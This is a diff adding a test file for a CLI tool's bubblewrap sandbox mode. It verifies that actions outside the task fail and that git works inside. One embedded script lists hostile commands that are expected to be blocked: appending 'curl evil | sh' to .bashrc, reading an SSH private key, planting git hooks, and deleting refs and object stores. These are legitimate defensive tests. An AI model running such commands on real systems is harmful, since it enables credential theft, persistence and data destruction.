@@ -1,0 +1,187 @@
+// Sandboxed runs (docs/sandbox.md): from inside, everything outside the task fails and leaves
+// the real repositories byte for byte as they were; inside, git works as usual, and what the
+// run committed is on its branches afterwards. Real bubblewrap, real git, the built CLIs.
+import { existsSync, readdirSync, readFileSync, realpathSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, expect, it } from "vitest";
+import { DEFAULT_HIDDEN } from "../packages/core/src/sandbox/settings.ts";
+import { arielIn } from "./helpers/cli.ts";
+import { git } from "./helpers/git.ts";
+import {
+  addTask,
+  cleanWorlds,
+  describeSandbox,
+  records,
+  type SandboxWorld,
+  sandboxWorld,
+  script,
+  statuses,
+  untouchable,
+} from "./sandbox_helpers.ts";
+import { legPath, wt } from "./worktree-fixtures.ts";
+
+/** The default hidden paths outside home that exist on this machine (sockets of /run). */
+function systemHidden(): string[] {
+  return DEFAULT_HIDDEN.filter((p) => p.startsWith("/") && existsSync(p)).map((p) => realpathSync(p));
+}
+
+afterEach(cleanWorlds);
+
+function spawn(w: SandboxWorld, args: readonly string[]) {
+  return arielIn("spawn", w.root, args, { env: w.env, timeoutMs: 120_000 });
+}
+
+/** Each forbidden action, run inside as `name`; its status printed as `name rc=N`. */
+const FORBIDDEN = (root: string) => `
+try() { name=$1; shift; "$@" >/dev/null 2>&1; echo "$name rc=$?"; }
+try write-other-source sh -c 'echo x > ${root}/web/evil'
+try write-user-checkout sh -c 'echo x > ${root}/api/evil'
+try write-other-task sh -c 'echo x > ${root}/.ariel/worktrees/other/api/evil'
+try write-home sh -c 'echo x > "$HOME/evil"'
+try write-bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
+try update-ref-main git update-ref refs/heads/main HEAD~1
+try branch-f-main git branch -f main HEAD~1
+try branch-f-side git branch -f side HEAD
+try tag-d git tag -d v1
+try config-hookspath git config core.hooksPath /tmp/x
+try write-pre-commit sh -c 'echo "#!/bin/sh" > "$(git rev-parse --git-common-dir)/hooks/pre-commit"'
+try write-info-exclude sh -c 'echo x >> "$(git rev-parse --git-common-dir)/info/exclude"'
+try rm-object-store rm -rf "$(git rev-parse --git-common-dir)/ariel-real-objects"
+try read-ssh-key cat "$HOME/.ssh/id_ed25519"
+try worktree-prune git worktree prune
+try gc-prune-now git gc --prune=now
+try rm-private-objects rm -rf "$(git rev-parse --git-common-dir)/objects"
+`;
+
+describeSandbox("ariel-spawn --sandbox", () => {
+  it("from inside, everything outside the task fails, and the real repositories stay byte for byte as they were", async () => {
+    const w = sandboxWorld();
+    await addTask(w, "other", ["api"]);
+    await addTask(w, "t1", ["api"]);
+    const leg = legPath(w.root, "t1", "api");
+    const before = untouchable(w, [leg]);
+    const sh = script(w, "forbidden.sh", FORBIDDEN(w.root));
+    const r = await spawn(w, ["--sandbox", "--isolate", "--task", "t1", "--source", "api", "--", "sh", sh]);
+    expect(r.stderr).toBe("");
+    expect(r.code).toBe(0);
+    const rc = statuses(r.stdout);
+    // Each of these fails inside …
+    for (const name of [
+      "write-other-source",
+      "write-user-checkout",
+      "write-other-task",
+      "write-home",
+      "write-bashrc",
+      "update-ref-main",
+      "branch-f-main",
+      "branch-f-side",
+      "tag-d",
+      "config-hookspath",
+      "write-pre-commit",
+      "write-info-exclude",
+      "rm-object-store",
+      "read-ssh-key",
+    ]) {
+      expect([name, rc[name]]).not.toEqual([name, 0]);
+      expect(rc[name]).toBeTypeOf("number");
+    }
+    // … and these three succeed on the sandbox's own copy only.
+    expect([rc["worktree-prune"], rc["gc-prune-now"], rc["rm-private-objects"]]).toEqual([0, 0, 0]);
+    // Nothing outside changed: refs, config, hooks, other worktrees, other sources, home.
+    expect(untouchable(w, [leg])).toEqual(before);
+    expect(readdirSync(join(w.root, ".ariel/sandbox"))).toEqual([]);
+    expect(git(w.api, "fsck", "--no-dangling")).toBe("");
+  });
+
+  it("git works inside in every leg (--span): commit, stash and pop, a new branch; afterwards the branches hold the commits, each leg is as the run left it, and land brings them home", async () => {
+    const w = sandboxWorld();
+    const sh = script(
+      w,
+      "work.sh",
+      `set -e
+cd "$ARIEL_WORKTREE/api"
+echo "edited in the sandbox" >> README.md && git add README.md && git commit -qm "api: edit"
+echo "more" >> README.md && git stash -q && git stash pop -q
+git switch -qc feature && echo f > f.txt && git add f.txt && git commit -qm "api: feature" && git switch -q ariel/t2
+cd "$ARIEL_WORKTREE/web"
+echo "edited" >> src/main.txt && git commit -qam "web: edit"
+echo "left uncommitted" > notes.txt
+echo done rc=0
+`,
+    );
+    const r = await spawn(w, [
+      "--sandbox",
+      "--isolate",
+      "--span",
+      "--keep",
+      "--task",
+      "t2",
+      "--source",
+      "api",
+      "--source",
+      "web",
+      "--",
+      "sh",
+      sh,
+    ]);
+    expect(statuses(r.stdout)).toEqual({ done: 0 });
+    expect(r.code).toBe(0);
+    expect(git(w.api, "log", "--format=%s", "ariel/t2", "-2")).toBe("api: edit\nsecond");
+    expect(git(w.api, "log", "--format=%s", "feature", "-1")).toBe("api: feature");
+    expect(git(w.web, "log", "--format=%s", "ariel/t2", "-1")).toBe("web: edit");
+    expect(git(legPath(w.root, "t2", "api"), "status", "--porcelain")).toBe("M README.md");
+    expect(git(legPath(w.root, "t2", "web"), "status", "--porcelain")).toBe("?? notes.txt");
+    expect(git(w.api, "fsck", "--no-dangling")).toBe("");
+    git(legPath(w.root, "t2", "api"), "checkout", "--", "README.md");
+    const land = await wt(w.root, ["land", "--task", "t2"], { env: w.env });
+    expect([land.code, land.stderr]).toEqual([
+      0,
+      "ariel-worktree: warning: web: 1 uncommitted path(s) in the leg were not landed\n",
+    ]);
+    expect(git(w.api, "log", "--format=%s", "main", "-3")).toContain("api: edit");
+    expect(git(w.web, "log", "--format=%s", "main", "-3")).toContain("web: edit");
+  });
+
+  it("in place: the checkout is writable, its own branch moves, other refs do not", async () => {
+    const w = sandboxWorld();
+    const sh = script(
+      w,
+      "inplace.sh",
+      `echo in-place >> README.md; git commit -qam "in place"; echo "commit rc=$?"
+git tag -d v1 >/dev/null 2>&1; echo "tag-d rc=$?"
+echo staged > staged.txt; git add staged.txt; echo "add rc=$?"
+`,
+    );
+    const r = await spawn(w, ["--sandbox", "--source", "api", "--", "sh", sh]);
+    const rc = statuses(r.stdout);
+    expect([rc.commit, rc.add, r.code]).toEqual([0, 0, 0]);
+    expect(rc["tag-d"]).not.toBe(0);
+    expect(git(w.api, "log", "--format=%s", "-1")).toBe("in place");
+    expect(git(w.api, "tag")).toBe("v1");
+    expect(git(w.api, "status", "--porcelain")).toBe("A  staged.txt");
+    expect(readFileSync(join(w.api, "README.md"), "utf8")).toBe("# api\nin-place\n");
+  });
+
+  it("--dry-run prints the sandbox of each run from the same plan: what it may write, what it hides, its network", async () => {
+    const w = sandboxWorld();
+    const r = await spawn(w, [
+      "-n",
+      "--json",
+      "--sandbox",
+      "--sandbox-net",
+      "none",
+      "--source",
+      "api",
+      "--",
+      "true",
+    ]);
+    expect(r.code).toBe(0);
+    const [plan] = records(r.stdout);
+    expect(plan).toMatchObject({
+      type: "plan",
+      action: "spawn.run",
+      source: "api",
+      sandbox: { write: [w.api], hide: [join(w.home, ".ssh"), ...systemHidden()], net: "none" },
+    });
+  });
+});
